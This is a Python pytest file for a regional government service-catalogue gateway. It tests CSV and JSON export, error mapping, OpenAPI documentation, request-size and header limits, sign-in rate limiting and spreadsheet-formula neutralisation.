    assert obligation["due_date"] == "2026-11-16"
    [(name, request, _)] = calls
    assert (name, request.item_id, request.basis, request.description, request.effective_on
            ) == ("RecordChange", "it-9", "中华人民共和国食品安全法", "第三十五条修订",
                  "2026-11-01")
    assert request.kind == catalogue_pb2.CHANGE_KIND_LEGAL_BASIS


def test_obligations(client, calls) -> None:
    response = client.get("/v1/obligations", params={"region": "511602", "status": "overdue",
                                                     "page_size": 10, "page_token": "p"})
    assert response.status_code == 200
    assert response.json()["obligations"][0]["status"] == "OBLIGATION_STATUS_OVERDUE"
    [(name, request, _)] = calls
    assert name == "ListObligations"
    assert (request.region, request.status, request.page_size, request.page_token) == (
        "511602", catalogue_pb2.OBLIGATION_STATUS_OVERDUE, 10, "p")
    client.get("/v1/obligations", params={"region": "511602"})
    assert calls[1][1].status == catalogue_pb2.OBLIGATION_STATUS_UNSPECIFIED


# --- export -------------------------------------------------------------------------------
def test_export_json_is_streamed(client, calls, monkeypatch) -> None:
    monkeypatch.setattr(export, "CHUNK_CHARS", 10)
    with client.stream("GET", "/v1/regions/511602/catalogue.json",
                       headers={"Authorization": TOKEN}) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("application/json")
        assert "content-length" not in response.headers  # written as it arrives
        assert 'filename="catalogue-511602.json"' in response.headers["content-disposition"]
        chunks = list(response.iter_raw())
    assert len(chunks) > 3
    body = json.loads(b"".join(chunks))
    assert body["region"] == "511602"
    assert [i["item_id"] for i in body["items"]] == ["it-0", "it-1", "it-2"]
    assert body["items"][0]["content"]["list_kind"] == "LIST_KIND_POWER"
    [(name, request, metadata)] = calls
    assert name == "ExportItems" and request.region == "511602"
    assert metadata["authorization"] == TOKEN


def test_export_csv(client, calls) -> None:
    response = client.get("/v1/regions/511602/catalogue.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == export.CSV_COLUMNS == catalogue_csv.HEADER  # one format
    assert len(rows) == 4
    first = dict(zip(rows[0], rows[1], strict=True))
    assert {k: v for k, v in first.items() if v not in ("", "[]")} == {
        "item_id": "it-0", "version": "2", "name": "食品经营许可", "code": "511A0064100152",
        "item_type": "01", "list_kind": "power", "region": "511602",
        "department": "广安区市场监督管理局", "statutory_limit_days": "20",
        "promised_limit_days": "10",
        "steps": '[{"key":"accept","name":"受理","kind":"","limit_days":1,"limit_unit":"",'
                 '"returns_to":[],"department":"","department_code":"",'
                 '"parallel_branches":[]},'
                 '{"key":"decide","name":"决定","kind":"","limit_days":2,"limit_unit":"",'
                 '"returns_to":[],"department":"","department_code":"",'
                 '"parallel_branches":[]}]',
        "published_at": "2026-10-01T02:00:00Z"}


def test_export_of_an_empty_region(client) -> None:
    assert client.get("/v1/regions/511699/catalogue.json").json() == {
        "region": "511699", "items": []}
    text = client.get("/v1/regions/511699/catalogue.csv").content.decode("utf-8-sig")
    assert text.splitlines() == [",".join(export.CSV_COLUMNS)]


@pytest.mark.parametrize("suffix", ["json", "csv"])
def test_export_refused_before_the_first_item_is_an_error_answer(client, suffix) -> None:
    response = client.get(f"/v1/regions/510000/catalogue.{suffix}")
    assert response.status_code == 403
    assert error_of(response)["code"] == "REGION_FORBIDDEN"


def test_export_region_is_checked_before_calling(client, calls) -> None:
    response = client.get("/v1/regions/51160x/catalogue.csv")
    assert response.status_code == 400
    assert error_of(response)["field_violations"][0]["field"] == "path.region"
    assert calls == []


@pytest.fixture(scope="module")
def served(backend) -> Iterator[str]:
    """The app behind a real HTTP server: how a broken-off stream looks on the wire."""
    _, address = backend
    backends = Backends({"catalogue": address, "cases": address, "monitoring": address}, 5.0)
    server = uvicorn.Server(uvicorn.Config(create_app(backends, "511602", "广安区"),
                                           host="127.0.0.1", port=free_port(),
                                           log_config=None, access_log=False))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        assert time.monotonic() < deadline, "the test server did not start"
        time.sleep(0.01)
    yield f"http://127.0.0.1:{server.config.port}"
    server.should_exit = True
    thread.join(10)
    backends.close()


@pytest.mark.parametrize("suffix", ["json", "csv"])
def test_export_failing_midway_breaks_the_connection(served, suffix, monkeypatch) -> None:
    """A cut file must not look whole: the answer ends without its last chunk."""
    monkeypatch.setattr(export, "CHUNK_CHARS", 10)
    received = b""
    with httpx.Client(timeout=10) as http, pytest.raises(httpx.RemoteProtocolError):
        with http.stream("GET", f"{served}/v1/regions/511603/catalogue.{suffix}") as response:
            assert response.status_code == 200
            for chunk in response.iter_raw():
                received += chunk
    assert b"it-0" in received and b"it-1" not in received


def test_export_is_whole_on_the_wire(served) -> None:
    with httpx.Client(timeout=10) as http:
        response = http.get(f"{served}/v1/regions/511602/catalogue.csv")
    assert response.status_code == 200
    assert response.headers["transfer-encoding"] == "chunked"
    assert len(response.content.decode("utf-8-sig").splitlines()) == 4


# --- errors -------------------------------------------------------------------------------
@pytest.mark.parametrize("code, http", [
    ("INVALID_ARGUMENT", 400), ("UNAUTHENTICATED", 401), ("PERMISSION_DENIED", 403),
    ("NOT_FOUND", 404), ("ALREADY_EXISTS", 409), ("ABORTED", 409),
    ("FAILED_PRECONDITION", 422), ("RESOURCE_EXHAUSTED", 429), ("UNAVAILABLE", 503),
    ("DEADLINE_EXCEEDED", 504), ("INTERNAL", 500), ("DATA_LOSS", 500),
])
def test_error_table_through_a_real_call(client, code, http) -> None:
    response = client.get(f"/v1/cases/fail-{code.replace('_', '-')}")
    assert response.status_code == http
    error = error_of(response)
    assert error["code"] == "TEST_CODE"
    assert error["message"] == f"failing with {code}"
    assert error["metadata"] == {"why": "asked"}
    assert len(error["identifier"]) == 32


def test_error_table_covers_every_status() -> None:
    for code in grpc.StatusCode:
        if code is not grpc.StatusCode.OK:
            assert 400 <= http_status_of(code) <= 599
    assert http_status_of(grpc.StatusCode.UNKNOWN) == 500


def test_not_found_keeps_the_services_detail(client) -> None:
    response = client.get("/v1/items/nope/versions/0")
    assert response.status_code == 404
    error = error_of(response)
    assert error["code"] == "ITEM_NOT_PUBLISHED"
    assert error["metadata"] == {"item_id": "nope"}


def test_a_crash_in_a_service_shows_no_internals(client) -> None:
    response = client.get("/v1/items/boom/versions/0")
    assert response.status_code == 500
    error = error_of(response)
    assert "/srv/db" not in response.text and "Traceback" not in response.text
    assert error["identifier"] in error["message"]


@pytest.mark.parametrize("body", [b"{not json", b'{"draft": ', b"\xff\xfe"])
def test_malformed_json_is_400_with_a_clear_message(client, calls, body) -> None:
    response = client.post("/v1/items", content=body,
                           headers={"Content-Type": "application/json"})
    assert response.status_code == 400
    error = error_of(response)
    assert error["code"] == "MALFORMED_JSON"
    assert error["message"].startswith("the body is not valid JSON")
    assert "Traceback" not in response.text
    assert calls == []


@pytest.mark.parametrize("body, fragment", [
    ([1, 2], "must be a JSON object"),
    ({"draft": {"no_such_field": 1}}, "no_such_field"),
    ({"draft": {"statutory_limit_days": "many"}}, "statutory_limit_days"),
    ({"draft": {"statutory_limit_days": 2**40}}, "statutory_limit_days"),
    ({"draft": {"steps": "accept"}}, "steps"),
])
def test_bodies_that_do_not_match_the_message_are_400(client, calls, body, fragment) -> None:
    response = client.post("/v1/items", json=body)
    assert response.status_code == 400
    assert fragment in error_of(response)["message"]
    assert calls == []


def test_query_and_path_validation_is_400_with_field_violations(client, calls) -> None:
    response = client.get("/v1/items", params={"page_size": "many"})
    assert response.status_code == 400
    error = error_of(response)
    assert error["code"] == "INVALID_ARGUMENT"
    assert error["field_violations"][0]["field"] == "query.page_size"
    assert client.post("/v1/cases/not!a!number/actions", json={}).status_code == 400
    assert client.get(f"/v1/items/x/versions/{2**31}").status_code == 400
    assert calls == []


def test_unknown_route_answers_in_the_error_model(client) -> None:
    response = client.get("/v1/nothing-here")
    assert response.status_code == 404
    assert error_of(response)["code"] == "NOT_FOUND"


def test_backend_down_is_503_without_internal_addresses(down_client) -> None:
    response = down_client.get("/v1/items")
    assert response.status_code == 503
    error = error_of(response)
    assert error["code"] == "UNAVAILABLE"
    assert "127.0.0.1" not in response.text
    assert error["metadata"] == {"service": "catalogue"}


# --- node, health, docs -------------------------------------------------------------------
def test_healthz_serving(client) -> None:
    response = client.get("/healthz")
    assert response.status_code == 200
    body = response.json()
    assert body["status"] == "SERVING"
    assert {k: v["status"] for k, v in body["backends"].items()} == {
        "catalogue": "SERVING", "cases": "SERVING", "monitoring": "SERVING"}


def test_healthz_503_when_backends_are_down(down_client) -> None:
    response = down_client.get("/healthz")
    assert response.status_code == 503
    body = response.json()
    assert body["status"] == "NOT_SERVING"
    assert body["backends"]["cases"]["status"] == "UNKNOWN"


def test_node(client) -> None:
    body = client.get("/v1/node").json()
    assert (body["region"], body["name"]) == ("511602", "广安区")
    assert {s["name"]: s["status"] for s in body["services"]} == {
        "sunlight.catalogue.v1.CatalogueService": "SERVING",
        "sunlight.cases.v1.CaseService": "SERVING",
        "sunlight.monitoring.v1.MonitoringService": "SERVING"}


def test_openapi_documents_routes_and_proto_schemas(client) -> None:
    document = client.get("/openapi.json").json()
    assert {"/v1/items", "/v1/items/{item_id}/versions/{version}",
            "/v1/items/{item_id}/versions/{version}/publish", "/v1/cases",
            "/v1/cases/{case_number}", "/v1/cases/{case_number}/actions",
            "/v1/cases/{case_number}/trace", "/v1/cases/{case_number}/trace/verify",
            "/v1/queue", "/v1/supervision/cases/{case_number}", "/v1/node",
            "/healthz"} <= set(document["paths"])
    schemas = document["components"]["schemas"]
    assert "sunlight.cases.v1.SubmitApplicationRequest" in schemas
    assert schemas["sunlight.catalogue.v1.ItemDraft"]["properties"]["steps"]["type"] == "array"
    publish = document["paths"]["/v1/items/{item_id}/versions/{version}/publish"]["post"]
    body_schema = publish["requestBody"]["content"]["application/json"]["schema"]
    assert set(body_schema["properties"]) == {"idempotency_key", "legal_reviewer",
                                              "staffing_reviewer", "approving_document"}


def test_openapi_describes_the_action_body(client) -> None:
    """Exactly one action, named by its field; the enums people type take short forms."""
    document = client.get("/openapi.json").json()
    operation = document["paths"]["/v1/cases/{case_number}/actions"]["post"]
    assert "exactly one action" in operation["description"]
    body = operation["requestBody"]
    schema = body["content"]["application/json"]["schema"]
    assert body["required"] and schema["required"] == ["idempotency_key"]
    actions = set(schema["properties"]) - {"idempotency_key"}
    assert actions == {f.name for f in cases_pb2.ActOnCaseRequest.DESCRIPTOR.oneofs_by_name[
        "action"].fields}
    assert "case_number" not in schema["properties"]  # it is in the path
    assert sorted(o["required"][0] for o in schema["oneOf"]) == sorted(actions)
    assert all(len(o["required"]) == 1 for o in schema["oneOf"])
    assert "action: exactly one of accept, reject" in schema["description"]
    outcome = schema["properties"]["decide"]["properties"]["outcome"]
    assert {"approve", "refuse", "DECISION_OUTCOME_APPROVE"} <= set(outcome["enum"])
    kind = schema["properties"]["start_procedure"]["properties"]["kind"]
    assert {"hearing", "expert_review", "SPECIAL_PROCEDURE_HEARING"} <= set(kind["enum"])
    complete = document["components"]["schemas"]["sunlight.cases.v1.CompleteStep"]
    assert complete["properties"]["opinion"]["maxLength"] == 2000
    submit = document["paths"]["/v1/cases"]["post"]["requestBody"]["content"][
        "application/json"]["schema"]
    assert {"online", "system", "CHANNEL_COUNTER"} <= set(submit["properties"]["channel"]["enum"])
    assert {"promised", "immediate"} <= set(submit["properties"]["mode"]["enum"])
    answer = operation["responses"]["200"]["content"]["application/json"]["schema"]
    assert answer["$ref"].endswith("sunlight.cases.v1.CaseResponse")


def test_openapi_documents_the_catalogue_routes(client) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    expected = {
        ("/v1/items/search", "get"): "SearchItemsResponse",
        ("/v1/items/{item_id}/versions/{version}", "put"): "UpdateDraftResponse",
        ("/v1/items/{item_id}/versions/{version}/submit", "post"): "SubmitItemResponse",
        ("/v1/items/{item_id}/versions/{version}/review", "post"): "ReviewItemResponse",
        ("/v1/items/{item_id}/versions", "post"): "DraftNextVersionResponse",
        ("/v1/items/{item_id}/adjust", "post"): "AdjustItemResponse",
        ("/v1/items/{item_id}/history", "get"): "GetItemHistoryResponse",
        ("/v1/changes", "post"): "RecordChangeResponse",
        ("/v1/obligations", "get"): "ListObligationsResponse",
    }
    for (path, method), response in expected.items():
        answers = paths[path][method]["responses"]
        [(code, answer)] = [(c, a) for c, a in answers.items() if c.startswith("2")]
        assert answer["content"]["application/json"]["schema"]["$ref"].endswith(
            f"sunlight.catalogue.v1.{response}"), path
    review = paths["/v1/items/{item_id}/versions/{version}/review"]["post"]
    kind = review["requestBody"]["content"]["application/json"]["schema"]["properties"]["kind"]
    assert {"legal", "staffing", "REVIEW_KIND_LEGAL"} <= set(kind["enum"])
    search = {p["name"]: p for p in paths["/v1/items/search"]["get"]["parameters"]}
    assert {"q", "region", "department", "item_type", "list_kind", "exercise_level", "status",
            "page_size", "page_token"} <= set(search)
    assert "public_service" in search["list_kind"]["description"]
    csv_answer = paths["/v1/regions/{region}/catalogue.csv"]["get"]["responses"]["200"]
    assert "text/csv" in csv_answer["content"]
    json_answer = paths["/v1/regions/{region}/catalogue.json"]["get"]["responses"]["200"]
    items = json_answer["content"]["application/json"]["schema"]["properties"]["items"]
    assert items["items"]["$ref"].endswith("sunlight.catalogue.v1.ItemVersion")


def test_docs_plain_is_a_local_page_listing_the_routes(client) -> None:
    response = client.get("/docs/plain")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in response.headers["content-security-policy"]
    html = response.text
    assert "<script" not in html and "cdn" not in html.lower()
    assert not re.search(r"""(src|href)=["'](https?:)?//""", html)  # nothing from outside
    # paths wrap after their slashes only, never inside a segment
    assert "/<wbr>v1/<wbr>items/<wbr>{item_id}/<wbr>versions" in html
    html = html.replace("<wbr>", "")
    row = re.search(r"<tr>.*?/v1/items/\{item_id\}/versions/\{version\}/review.*?</tr>", html)
    assert row and "POST" in row.group(0) and "ReviewItemRequest" in row.group(0)
    assert "ReviewItemResponse" in row.group(0)
    assert "/v1/regions/{region}/catalogue.csv" in html and "text/csv" in html
    assert "/docs" not in client.get("/openapi.json").json()["paths"]
    assert client.get("/redoc").status_code == 404


def test_openapi_documents_400_not_fastapis_422(client) -> None:
    document = client.get("/openapi.json").json()
    listing = document["paths"]["/v1/items"]["get"]["responses"]
    assert "422" not in listing and "4XX" in listing
    assert "HTTPValidationError" not in document["components"]["schemas"]


def test_the_process_wiring_builds_without_a_network() -> None:
    from gateway.server import build
    from services.shared.config import Settings

    gateway = build(Settings(gateway_grpc_port=free_port()))
    try:
        paths = {route.path for route in gateway.http.routes}
        assert {"/v1/items", "/healthz", "/v1/node"} <= paths
        assert gateway.grpc.port is None  # built, not started
    finally:
        gateway.backends.close()


# --- limits on what a request may carry ---------------------------------------------------


def _raw_exchange(base: str, head: bytes, body_parts: list[bytes], wait_s: float = 5.0
                  ) -> bytes:
    """Send a request's head and some of its body, keep the connection open (never sending
    the rest) and return what the server answers within ``wait_s``."""
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=wait_s) as sock:
        sock.sendall(head)
        for part in body_parts:
            try:
                sock.sendall(part)
            except OSError:  # the server answered and closed: stop sending
                break
        answer = b""
        try:
            while b"\r\n\r\n" not in answer:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                answer += chunk
        except TimeoutError:
            pass
    return answer


def test_a_body_declared_too_large_is_refused_before_it_is_read(served) -> None:
    """300 MB announced, 1 KB sent: the answer comes at once, without waiting for the rest
    (which the server would otherwise read into memory first)."""
    head = (b"POST /v1/items HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
            b"Content-Length: 300000000\r\n\r\n")
    started = time.monotonic()
    answer = _raw_exchange(served, head, [b"{" + b" " * 1023])
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert time.monotonic() - started < 4
    assert b"BODY_TOO_LARGE" in answer or b"content-length" in answer.lower()


def test_a_chunked_body_is_read_no_further_than_the_limit(served) -> None:
    """No Content-Length: the server stops at 1 MiB and answers, though the body goes on."""
    head = (b"POST /v1/items HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n")
    chunk = b" " * 65536
    parts = [b"%x\r\n" % len(chunk) + chunk + b"\r\n"] * 20  # 1.25 MiB, never terminated
    answer = _raw_exchange(served, head, parts)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]


def test_a_body_at_the_limit_is_read(client, calls) -> None:
    from gateway.http_api import MAX_BODY_BYTES

    body = b'{"idempotency_key": "k"}'
    padded = body + b" " * (MAX_BODY_BYTES - len(body))
    response = client.post("/v1/items", content=padded,
                           headers={"Content-Type": "application/json"})
    assert response.status_code == 201 and calls[0][0] == "CreateItem"
    over = client.post("/v1/items", content=padded + b" ",
                       headers={"Content-Type": "application/json"})
    assert over.status_code == 413 and error_of(over)["code"] == "BODY_TOO_LARGE"


def test_an_oversized_authorization_header_is_a_clear_4xx_not_a_transport_error(
        client, calls) -> None:
    response = client.get("/v1/items/it-1/versions/0",
                          headers={"Authorization": "Bearer " + "a" * 5_000})
    assert response.status_code == 431
    assert error_of(response)["code"] == "AUTHORIZATION_TOO_LARGE"
    assert calls == []  # never forwarded as metadata


def test_headers_over_their_limit_together_are_431_before_anything_else(client, calls) -> None:
    from gateway.limits import MAX_HEADER_BYTES

    fits = {f"X-Pad-{i}": "p" * 1000 for i in range(MAX_HEADER_BYTES // 1100)}
    assert client.get("/v1/", headers=fits).status_code == 200
    over = {**fits, "X-Pad-last": "p" * 3000}
    refused = client.get("/v1/items/it-1/versions/1", headers=over)
    assert refused.status_code == 431
    assert error_of(refused)["code"] == "HEADERS_TOO_LARGE"
    long_query = client.get("/v1/items/search", params={"q": "x" * MAX_HEADER_BYTES})
    assert long_query.status_code == 431
    assert calls == []


def test_parser_errors_do_not_echo_huge_values(client) -> None:
    response = client.post("/v1/items", json={"draft": {"list_kind": "X" * 100_000}})
    assert response.status_code == 400
    assert len(error_of(response)["message"]) < 1000


def test_export_csv_neutralises_formulas_and_the_importer_reads_them_back(client) -> None:
    """Texts a spreadsheet would run (=, +, -, @) are written behind a quote; importing the
    file again gives the original text back, flagged."""
    from services.catalogue.domain.import_rows import FLAGGED, ColumnMapping, parse_rows

    response = client.get("/v1/regions/511604/catalogue.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
    assert all(r["department"] == "'@广安区市场监督管理局" for r in rows)
    assert all(not r[column].startswith(("=", "+", "-", "@")) for r in rows for column in r)
    implementation = "511A0064100152-511602000000-000-115113016823646795-1-00"
    report = parse_rows(
        [{**r, "code": implementation, "task_type": "1"} for r in rows],
        importing_region="511602",
        mapping=ColumnMapping(name="name", department="department", item_code="code",
                              area_code="region", task_type="task_type", group=None,
                              dept_code=None))
    assert [o.item.name for o in report.outcomes if o.item] == list(FORMULAS)
    assert all(o.outcome == FLAGGED and any("leading quote" in r for r in o.reasons)
               for o in report.outcomes)


def test_openapi_states_the_contracts_limits(client) -> None:
    document = client.get("/openapi.json").json()
    schemas = document["components"]["schemas"]
    create = schemas["sunlight.catalogue.v1.CreateItemRequest"]
    assert create["required"] == ["idempotency_key", "draft"]
    key = create["properties"]["idempotency_key"]
    assert {k: v for k, v in key.items() if k != "description"} == {
        "type": "string", "minLength": 1, "maxLength": 128, "pattern": r"^[^\x00-\x1F\x7F]*$"}
    draft = schemas["sunlight.catalogue.v1.ItemDraft"]["properties"]
    assert draft["steps"]["maxItems"] == 100 and draft["name"]["maxLength"] == 200
    assert draft["list_kind"]["enum"] == ["LIST_KIND_UNSPECIFIED", "LIST_KIND_POWER",
                                          "LIST_KIND_DUTY", "LIST_KIND_PUBLIC_SERVICE",
                                          "LIST_KIND_NEGATIVE"]
    handling = draft["handling_forms"]["items"]["enum"]
    assert "HANDLING_FORM_UNSPECIFIED" not in handling and len(handling) == 4
    listing = {p["name"]: p for p in document["paths"]["/v1/items"]["get"]["parameters"]}
    assert (listing["page_size"]["schema"]["minimum"],
            listing["page_size"]["schema"]["maximum"]) == (0, 200)
    search = {p["name"]: p for p in document["paths"]["/v1/items/search"]["get"]["parameters"]}
    assert search["page_size"]["schema"]["maximum"] == 100
    assert search["q"]["schema"]["maxLength"] == 100
    submit = document["paths"]["/v1/items/{item_id}/versions/{version}/submit"]["post"]
    version = {p["name"]: p for p in submit["parameters"]}["version"]["schema"]
    assert version["minimum"] == 1
    body = submit["requestBody"]
    assert body["required"] and body["content"]["application/json"]["schema"]["required"] == [
        "idempotency_key"]


# --- rate limits ----------------------------------------------------------------------------


@pytest.fixture
def limited(backend) -> Iterator[TestClient]:
    from services.shared.rate_limits import RateLimits

    _, address = backend
    backends = Backends({"catalogue": address, "cases": address, "monitoring": address}, 5.0)
    app = create_app(backends, "511602", "广安区",
                     RateLimits(failed_auth="3/minute", public_reads="5/minute"))
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client
    backends.close()


def test_failed_sign_ins_are_throttled_per_client(limited, calls) -> None:
    """Tokens cannot be guessed at speed: after 3 refused tokens, any request with an
    Authorization header is a 429 with Retry-After that reaches no service."""
    wrong = {"Authorization": "Bearer guessed"}
    for _ in range(3):
        assert limited.get("/v1/cases/fail-UNAUTHENTICATED", headers=wrong).status_code == 401
    reached = len(calls)
    refused = limited.get("/v1/cases/511602202611020000001", headers=wrong)
    assert refused.status_code == 429
    error = error_of(refused)
    assert error["code"] == "RATE_LIMITED"
    assert refused.headers["Retry-After"] == error["metadata"]["retry_after_s"]
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    assert len(calls) == reached
    # without a token the client is the public: not a sign-in attempt
    assert limited.get("/v1/cases/511602202611020000001").status_code == 200


def test_authenticated_calls_are_never_counted_as_failed(limited) -> None:
    token = {"Authorization": "Bearer good"}
    for _ in range(20):
        assert limited.get("/v1/cases/511602202611020000001", headers=token).status_code == 200


def test_an_oversized_authorization_header_counts_as_a_failed_sign_in(limited) -> None:
    huge = {"Authorization": "Bearer " + "a" * 10_000}
    assert [limited.get("/v1/cases/1", headers=huge).status_code
            for _ in range(4)] == [431, 431, 431, 429]


def test_public_catalogue_reads_are_limited_for_anonymous_callers(limited) -> None:
    assert [limited.get("/v1/items").status_code for _ in range(6)] == [200] * 5 + [429]
    assert limited.get("/v1/items", headers={"Authorization": "Bearer good"}
                       ).status_code == 200


def test_a_timestamp_whose_fraction_overflows_is_a_400_naming_nothing_internal() -> None:
    """protobuf's JSON parser raises OverflowError (not ParseError) for "…00.1e999Z"."""
    from sunlight.cases.v1 import cases_pb2

    from gateway.errors import ApiError
    from gateway.http_api import parse

    with pytest.raises(ApiError) as refused:
        parse({"at": "2026-11-30T07:00:00.1e999Z"}, cases_pb2.Statement)
    assert refused.value.status == 400 and refused.value.code == "INVALID_ARGUMENT"
